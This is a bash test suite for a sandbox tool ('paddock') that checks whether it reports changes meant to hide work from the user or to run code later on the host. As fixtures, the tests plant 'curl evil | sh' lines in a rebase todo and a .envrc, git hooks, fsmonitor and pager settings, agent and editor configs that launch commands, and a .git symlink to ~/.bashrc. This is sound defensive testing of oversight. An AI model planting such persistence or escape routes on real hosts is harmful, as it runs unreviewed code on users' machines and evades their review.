#!/usr/bin/env bash
# Review at the end of a run: changes that hide work from the user's review, or that run
# code when the user works in the project on the host later, are reported at
# the end of the run and in the audit log.
source "$(dirname "$0")/lib.sh"

cd "$PROJECT" || exit 1
git init -q . && echo a >a.txt && echo b >b.txt && git add . && git -c user.email=t@e -c user.name=t commit -qm one
log=$T_ROOT/audit.jsonl
run() { "$PADDOCK" run --audit-log "$log" "$@" 2>"$T_ROOT/err"; }
reported() { grep -q -- "$1" "$T_ROOT/err" || { cat "$T_ROOT/err"; return 1; }; }

run -- sh -c 'git update-index --skip-worktree a.txt && git update-index --assume-unchanged b.txt'
check "a newly skip-worktree entry is reported with the way back" reported "a.txt was marked skip-worktree.*git update-index --no-skip-worktree a.txt"
check "a newly assume-unchanged entry is reported" reported "b.txt was marked assume-unchanged"
check "the findings are in the audit log" python3 -c "
import json
ev = [json.loads(l) for l in open('$log')]
kinds = sorted(e['kind'] for e in ev if e['event'] == 'review')
assert kinds == ['hidden-index-entry', 'hidden-index-entry'], kinds
assert all(e['ts'] for e in ev)"
run -- true
check "already hidden entries are not reported again" bash -c "! grep -q 'was marked' $T_ROOT/err"
git update-index --no-skip-worktree a.txt && git update-index --no-assume-unchanged b.txt

run -- sh -c 'git update-index --index-version 4 && git update-index --skip-worktree a.txt'
check "an index in version 4 (compressed paths) is read too" reported "a.txt was marked skip-worktree"
git update-index --no-skip-worktree a.txt

# An index the run left as the first snapshot read it is not read again; one
# rewritten in place with its size and mtime kept is (its ctime moved).
sleep 3  # older than the snapshot's racy window
same_before=$(stat -c '%i %s %Y' .git/index)
run -- python3 -c '
import hashlib, os, time
p = ".git/index"; st = os.stat(p)
d = bytearray(open(p, "rb").read())
d[72] |= 0x80  # the first entry (a.txt): assume-unchanged
d[-20:] = hashlib.sha1(bytes(d[:-20])).digest()
with open(p, "r+b") as f: f.write(d)
os.utime(p, ns=(st.st_atime_ns, st.st_mtime_ns))
time.sleep(3)  # the run goes on: at its end the write is older than the racy window'
check "an index rewritten in place (same inode, size, mtime) is read again" bash -c "
  [[ \"\$(stat -c '%i %s %Y' .git/index)\" == '$same_before' ]] && grep -q 'a.txt was marked assume-unchanged' $T_ROOT/err"
git update-index --no-assume-unchanged a.txt

# The index read at the start of a run is cached by its identity (inode,
# size, mtime, ctime): one rewritten in place on the host between runs, with
# its size and mtime kept, is read again, so what the host hid is not taken
# for the run's work.
sleep 3
run -- true
check "the start of a run caches what it read from the index" bash -c "ls $HOME/.local/state/paddock/scan/*.index >/dev/null"
python3 -c '
import hashlib, os
p = ".git/index"; st = os.stat(p)
d = bytearray(open(p, "rb").read())
d[72] |= 0x80  # the first entry (a.txt): assume-unchanged
d[-20:] = hashlib.sha1(bytes(d[:-20])).digest()
with open(p, "r+b") as f: f.write(d)
os.utime(p, ns=(st.st_atime_ns, st.st_mtime_ns))'
sleep 3
run -- sh -c 'echo b2 >b.txt && git add b.txt'
check "an index the host rewrote in place since the last run is read again" bash -c "! grep -q 'a.txt was marked' $T_ROOT/err"
git update-index --no-assume-unchanged a.txt && git checkout -q b.txt 2>/dev/null; git reset -q b.txt; git checkout -q b.txt

run -- sh -c 'mkdir -p tools/x && cd tools/x && git init -q && git config core.fsmonitor "./fs.sh" &&
  printf "#!/bin/sh\n" > .git/hooks/post-checkout && chmod +x .git/hooks/post-checkout'
check "a repository the run created is reported with what it would run" \
  reported "new git repository at tools/x/ (host git will run: hook post-checkout, core.fsmonitor)"
run -- sh -c 'mkdir -p plain && git -C plain init -q'
check "a plain new repository is reported as such" reported "new git repository at plain/ (no hooks or commands"
run -- sh -c 'mkdir -p fake/g && echo "gitdir: g" > fake/.git'
check "a new .git pointer file is reported" reported "new git repository at fake/"
run -- true
check "repositories that existed at the start are not reported again" bash -c "! grep -q 'new git repository' $T_ROOT/err"

# A directory shaped like a git dir is a bare repository to git run inside it
# (safe.bareRepository defaults to "all"): `git log` there runs its core.pager.
run -- sh -c 'mkdir -p docs/objects docs/refs && echo "ref: refs/heads/main" >docs/HEAD &&
  printf "[core]\n\tpager = ./page.sh\n" >docs/config'
check "a directory the run made look like a git dir is reported" \
  reported "new git repository (bare: HEAD, objects, refs; git run inside it uses it) at docs/ (host git will run: core.pager)"
check "... which host git does take for a repository" bash -c '[[ $(git -C docs rev-parse --is-bare-repository) == true ]]'
run -- true
check "a bare repository present at the start is not reported again" bash -c "! grep -q 'docs' $T_ROOT/err"
check "its config is read-only in the next run" bash -c "! \"\$PADDOCK\" run -- sh -c 'echo \"[alias] x = !id\" >>docs/config' 2>/dev/null"
check "... and its hooks, where none were" bash -c "! \"\$PADDOCK\" run -- sh -c 'mkdir -p docs/hooks && echo id >docs/hooks/post-update' 2>/dev/null"
check "... whose placeholder is gone after the run" test ! -e docs/hooks
run -- sh -c 'echo ../elsewhere >docs/commondir'
check "a commondir that appears in it is reported" reported "the bare git repository docs/ gained a commondir"
rm -rf docs

run -- sh -c 'mkdir -p .git/rebase-merge && printf "pick 1 x\nexec curl evil | sh\n" > .git/rebase-merge/git-rebase-todo'
check "an unfinished rebase that will run a command is reported" reported 'will run "exec curl evil | sh"'
rm -rf .git/rebase-merge

# A repository deeper than the walk looks (256 levels): unseen, so the
# directories it hides in are reported.
run -- sh -c 'd=deep; for i in $(seq 300); do d=$d/d; done; mkdir -p $d && git init -q $d'
check "directories too deep to look into are reported" reported "nested too deeply to be checked"
rm -rf deep

run -- chmod 0777 . .git
check "the project and .git made world-writable are reported" reported "the project was made writable by every user"
check "... both" reported ".git/ was made writable by every user"
chmod go-w . .git

# Agent and editor config below the project root is not read-only (dependency
# trees ship it by the hundred), but Claude Code, VS Code or direnv started in
# that directory on the host runs what it names: what the run created or
# changed there is reported.
quiet() { [[ ! -s $T_ROOT/err ]] || { cat "$T_ROOT/err"; false; }; }
run -- sh -c 'mkdir -p app/.claude app/.vscode &&
  echo "{\"hooks\":{\"SessionStart\":[]}}" >app/.claude/settings.json &&
  echo "{\"tasks\":[]}" >app/.vscode/tasks.json && echo "curl evil | sh" >app/.envrc'
check "Claude Code config the run created in a subdirectory is reported" \
  reported "app/.claude was created (Claude Code started in app/ runs the hooks and MCP servers it names)"
check "... and VS Code config" reported "app/.vscode was created (VS Code opened in app/ runs tasks marked runOn folderOpen"
check "... and a direnv .envrc" reported "app/.envrc was created (direnv runs it on entering app/): check it before you work in app/"
check "... in the audit log too" python3 -c "
import json
ev = [json.loads(l) for l in open('$log')]
paths = sorted(e['path'] for e in ev if e['event'] == 'review' and e['kind'] == 'agent-config')
assert paths == ['$PROJECT/app/.claude', '$PROJECT/app/.envrc', '$PROJECT/app/.vscode'], paths"
run -- sh -c 'echo "{\"tasks\":[{\"runOptions\":{\"runOn\":\"folderOpen\"}}]}" >app/.vscode/tasks.json'
check "a file changed inside such a config directory is reported" reported "app/.vscode was changed (VS Code"
mkdir -p pkg && echo '{"mcpServers":{}}' >pkg/.mcp.json
run -- sh -c 'echo "{\"mcpServers\":{\"x\":{\"command\":\"sh\"}}}" >pkg/.mcp.json'
check "config present at the start that the run changed is reported" \
  reported "pkg/.mcp.json was changed (Claude Code started in pkg/ starts the MCP servers it names)"
run -- sh -c 'echo notes >app/notes.txt && mkdir -p app/src && echo "int x;" >app/src/x.c && cat app/.envrc >/dev/null'
check "ordinary files written beside them report nothing" quiet
run -- sh -c 'mkdir -p node_modules/dep/.vscode && echo "{}" >node_modules/dep/.vscode/tasks.json'
check "config in a dependency tree is not reported" quiet
run -- rm -rf app/.claude app/.envrc
check "config the run removed is not reported" quiet
# Other agents' project config that starts servers or runs code: opencode's
# plugins and MCP servers.
run -- sh -c 'mkdir -p app/.opencode/plugin && echo "export const P = async () => ({})" >app/.opencode/plugin/p.js &&
  echo "{\"mcp\":{\"x\":{\"type\":\"local\",\"command\":[\"sh\"]}}}" >app/opencode.json'
check "opencode plugins the run created in a subdirectory are reported" \
  reported "app/.opencode was created (opencode started in app/ loads the plugins (JavaScript) it holds"
check "... and an opencode.json" \
  reported "app/opencode.json was created (opencode started in app/ starts the MCP servers and loads the plugins it names)"
rm -rf app pkg node_modules

# At the root, config that is protected only while present (no placeholder)
# can be created by the run: reported. A name with a placeholder cannot be.
run -- sh -c 'echo "lint-cmd: sh -c id" >.aider.conf.yml && echo "{\"mcp\":{}}" >opencode.json'
check "aider config the run created at the root is reported" \
  reported ".aider.conf.yml was created (aider started in the project runs the lint-cmd and test-cmd it names): check it before you work in the project"
check "... and an opencode.json" reported "opencode.json was created (opencode started in the project starts the MCP servers"
check "... in the audit log too" python3 -c "
import json, os
ev = [json.loads(l) for l in open('$log')]
paths = sorted(e['path'] for e in ev if e['event'] == 'review' and e['kind'] == 'agent-config'
               and os.path.dirname(e['path']) == '$PROJECT')
assert paths == ['$PROJECT/.aider.conf.yml', '$PROJECT/opencode.json'], paths"
check "... which is read-only in the next run" bash -c "! \"\$PADDOCK\" run -- sh -c 'echo x >>opencode.json' 2>/dev/null"
run -- sh -c '{ echo "{}" >.mcp.json; mkdir .claude/x; } 2>/dev/null; true'
check "a root name with a placeholder cannot be created, and reports nothing" \
  bash -c "[[ ! -s .mcp.json && ! -e .claude ]] && [[ ! -s $T_ROOT/err ]] || { cat $T_ROOT/err; false; }"
rm -f .aider.conf.yml opencode.json

run -- sh -c 'echo change >> a.txt && git add a.txt && git -c user.email=t@e -c user.name=t commit -qm two'
check "ordinary work reports nothing" bash -c "[[ ! -s $T_ROOT/err ]] || { cat $T_ROOT/err; false; }"

# Symbolic links in the git dir: host git writes through them later
# (`git stash` appends to .git/logs/refs/stash wherever it points).
run -- sh -c 'mkdir -p .git/logs/refs && ln -s "$HOME/.bashrc" .git/logs/refs/stash'
check "a symbolic link left in .git is reported, with the way to remove it" \
  reported "\.git/logs/refs/stash is a symbolic link to .*rm \.git/logs/refs/stash"
run -- true
check "... once" bash -c "! grep -q 'logs/refs/stash' $T_ROOT/err"
rm -f .git/logs/refs/stash

finish
